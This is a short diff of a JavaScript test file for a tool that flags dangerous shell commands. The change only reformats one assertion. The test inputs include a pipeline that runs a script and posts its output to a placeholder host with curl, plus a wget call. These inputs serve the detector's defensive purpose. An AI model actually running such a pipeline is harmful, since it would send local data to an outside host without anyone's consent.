@@ -13,10 +13,7 @@ describe('tools: dangers of commands', () => {
       'runs-code: node -e',
       'network: wget a.example',
     ]);
-    assert.deepEqual(found('sh x.sh | curl -d @- a.example'), [
-      'runs-code: sh x.sh',
-      'network: curl -d',
-    ]);
+    assert.deepEqual(found('sh x.sh | curl -d @- a.example'), ['runs-code: sh x.sh', 'network: curl -d']);
   });
 
   for (const line of [
